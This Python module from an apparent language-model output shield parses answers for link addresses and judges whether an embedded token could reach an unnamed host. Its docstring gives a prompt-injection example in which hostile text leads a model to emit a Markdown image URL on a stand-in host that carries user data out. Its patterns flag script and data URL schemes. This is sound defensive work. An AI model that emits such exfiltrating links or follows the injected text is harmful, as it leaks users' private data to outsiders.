"""Follows an answer to where it writes the address of a link, so that no value is carried out in one.

A hostile text can make a model answer `![](https://elsewhere.example/?q=[EMAIL_…])`: the reader's client would fetch
it. So a token in an address stays a token, unless the call itself names the address's host, or wrote that very address
with that very token. Addresses are what a client may follow or show as a link: the destination of a Markdown link,
image or reference, the value of an attribute in an HTML tag, a bare or angled URL (`https://…`, `//…`, `www.…`,
`name.example/…`), and, inside JSON, a whole string that begins as one. `mailto:` and `tel:` reach nobody by
themselves. A host that the call names, be it in a document that somebody else wrote, counts as known. In a document
inside a string of another, escapes are read roughly: there an address is rather taken for one that leads out.

Must not know tokens. Sources: shield.md ("Restoring"); CommonMark 0.31 (links, autolinks, raw HTML), GFM (extended
autolinks), the WHATWG URL standard (`https:host`, backslashes, ignored line breaks).
"""

import html
import re
from collections.abc import Collection, Iterable

LONGEST_ADDRESS = 4096
"""Characters that are judged; nothing is restored in a longer one. Browsers and servers stop at about as many."""

_STRING = "\0"
"""What stands for the quotes of a JSON string, and nothing else."""
_NO_CHARACTER = "\ufffd"
"""What Markdown makes of a NUL, which so cannot pass for the end of a string."""


_RUN = re.compile(r"[\s<\0]", re.ASCII)
_RUN_IN_TAG = re.compile(r"[\s<>\0]", re.ASCII)
_QUOTED_RUN = {quote: re.compile(rf"[\s<\0{quote}]", re.ASCII) for quote in "\"'`"}
_DESTINATION = re.compile(r"[\s()\0]", re.ASCII)
_ANGLED = re.compile(r"[>\n\0]")
_BARE_VALUE = re.compile(r"[\s>\0]", re.ASCII)
_DOUBLE = re.compile(r"[\"\0]")
_SINGLE = re.compile(r"['\0]")
"""What ends each kind of address. A bare one ends with a quote only if it began with it: GFM takes neither a quote for
an end, nor what follows one for a link."""

_URL = r"//|(?i:https?|ftp|wss?):|(?i:www)\.|(?<=\w)\.[^\W\d_][\w-]{1,62}(?::[0-9]{1,5})?[/?#]"
_OUTSIDE = re.compile(rf"\]\(\s*+<?|\]:\s*+<?|<(?=[A-Za-z/!?])|\0\s*+(?=(?i:https?|ftp|wss?|file):|[/\\]{{2}})|{_URL}")
_IN_TAG = re.compile(rf">|=\s*+[\"']?|\0|{_URL}")
_HOST_SIGNS = frozenset(".-")
_LONGEST_HOST = 253
"""Characters: RFC 1035."""

_ESCAPED = re.compile(r"\\+(?:u[0-9a-fA-F]{4}|.)?|\"|\0", re.DOTALL)
_HALF = re.compile("[\ud800-\udfff]")
_CONTROLS = {"n": "\n", "r": "\n", "t": "\t", "b": " ", "f": " "}


class Addresses:
    """Reads an answer in order; `depth` as in `restore`."""

    def __init__(self, depth: int) -> None:
        self._depth = depth
        self._unread: list[str] = []
        self._end: re.Pattern[str] | None = None
        self._brackets = 0
        self._in_tag = False
        self._address: list[str] = []
        self._length = 0

    def read(self, text: str) -> None:
        """More of the answer. It is looked at when somebody asks."""
        self._unread.append(text)

    def address(self) -> str | None:
        """The address that what was read ends in, without its end; None if it ends in none."""
        text = "".join(self._unread)
        self._unread.clear()
        text = self._decoded(text) if self._depth else text.replace(_STRING, _NO_CHARACTER)
        at = 0
        while at < len(text):
            at = self._outside(text, at) if self._end is None else self._inside(text, at, self._end)
        return None if self._end is None else "".join(self._address)

    def _outside(self, text: str, at: int) -> int:
        found = (_IN_TAG if self._in_tag else _OUTSIDE).search(text, at)
        if found is None:
            return len(text)
        sign = found[0]
        if sign == ">":
            self._in_tag = False
        elif sign == _STRING and self._in_tag:
            self._in_tag = False
            return found.start()
        elif sign == "<":
            self._in_tag = True
        elif sign[0] == "=":
            self._open({'"': _DOUBLE, "'": _SINGLE}.get(sign[-1], _BARE_VALUE))
        elif sign[0] == _STRING:
            self._open(_DOUBLE)
        elif sign[0] == "]":
            self._open(_ANGLED if sign[-1] == "<" else _DESTINATION)
        else:
            self._open_run(text, found)
        return found.end()

    def _open_run(self, text: str, found: re.Match[str]) -> None:
        sign, end = found[0], found.start()
        if sign == "//" and text[max(0, end - 1) : end] == ":":
            end -= 1
        name = _name_before(text, end)
        start = end - len(name)
        quote = text[start - 1] if start else ""
        ending = _RUN_IN_TAG if self._in_tag else _QUOTED_RUN.get(quote, _RUN)
        self._open(ending, f"//{name}{sign}" if "." in sign else sign)

    def _inside(self, text: str, at: int, ending: re.Pattern[str]) -> int:
        end = ending.search(text, at)
        stop = len(text) if end is None else end.start()
        self._add(text[at:stop])
        if end is None:
            return stop
        if end[0] == "(" or (end[0] == ")" and self._brackets):
            self._brackets += 1 if end[0] == "(" else -1
            self._add(end[0])
            return end.end()
        self._end = None
        own = end[0] in "\"')" or (end[0] == ">" and ending is _ANGLED)
        return end.end() if own else end.start()

    def _open(self, ending: re.Pattern[str], address: str = "") -> None:
        self._end = ending
        self._brackets = 0
        self._address = [address]
        self._length = len(address)

    def _add(self, text: str) -> None:
        """One character more than is judged is kept, so that the judge sees that it is too long."""
        room = LONGEST_ADDRESS + 1 - self._length
        if room > 0:
            self._address.append(text[:room])
            self._length += len(text[:room])

    def _decoded(self, text: str) -> str:
        """Without the escapes of JSON, however deep, and with the quotes of the document's own strings marked."""
        level = 2**self._depth
        quote = level // 2 - 1

        def meant(found: re.Match[str]) -> str:
            sign = found[0].lstrip("\\")
            backslashes = len(found[0]) - len(sign)
            if sign == '"':
                return _STRING if backslashes % level == quote else sign
            if sign == _STRING:
                return _NO_CHARACTER
            if len(sign) > 1:
                return "\\" * (backslashes // level) + chr(int(sign[1:], 16)).replace(_STRING, _NO_CHARACTER)
            if sign in _CONTROLS and backslashes % level == level // 2:
                return _CONTROLS[sign]
            return sign if sign == "/" else "\\" * max(1, backslashes // level) + sign

        return _joined(_ESCAPED.sub(meant, text))


def _joined(text: str) -> str:
    """The text with one character for each two halves of one, which JSON may write as an escape each."""
    if _HALF.search(text) is None:
        return text
    return text.encode("utf-16-le", "surrogatepass").decode("utf-16-le", "replace")


def _name_before(text: str, end: int) -> str:
    """The scheme or the host that ends there."""
    start = end
    while start and end - start < _LONGEST_HOST and (text[start - 1].isalnum() or text[start - 1] in _HOST_SIGNS):
        start -= 1
    return text[start:end]


_HOST = re.compile(r"(?<![\w.-])[\w-]++\.[\w.-]++|(?<=//)[\w.-]++")
_IGNORED = re.compile(r"[\t\r\n]+|^[\0- ]+")
_MARKDOWN_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")
_HARMLESS = re.compile(r"(?:mailto|tel|sms):", re.IGNORECASE)
_ACTING = re.compile(
    r"(?:javascript|vbscript|data)\s*:|(?!(?:https?|ftp|wss?):)[a-z][a-z0-9+.-]{1,30}:(?!\s)", re.IGNORECASE
)
_AUTHORITY = re.compile(r"(?:(?:https?|ftp|wss?|file):[/\\]*|[/\\]{2,})([^/\\?#]*)([/?#]?)", re.IGNORECASE)
_PORT = re.compile(r":[0-9]*\Z")


def hosts_of(texts: Iterable[str]) -> frozenset[str]:
    """Every host that texts name, in or out of a URL; linear. A word with a dot in it may be one."""
    return frozenset(host.lower().strip(".") for text in texts for host in _HOST.findall(text))


def may_lead_out(address: str, hosts: Collection[str]) -> bool:
    """Whether a value at the end of this address might reach a host that is none of these, on any reading of it."""
    if len(address) > LONGEST_ADDRESS:
        return True
    shown = _IGNORED.sub("", html.unescape(address))
    return any(_leads_out(reading, hosts) for reading in {shown, _MARKDOWN_ESCAPE.sub(r"\1", shown)})


def _leads_out(address: str, hosts: Collection[str]) -> bool:
    if _HARMLESS.match(address):
        return False
    if _ACTING.match(address):
        return True
    return any(
        not end or _PORT.sub("", named.rpartition("@")[2]).lower().strip(".") not in hosts
        for named, end in _AUTHORITY.findall(address)
    )
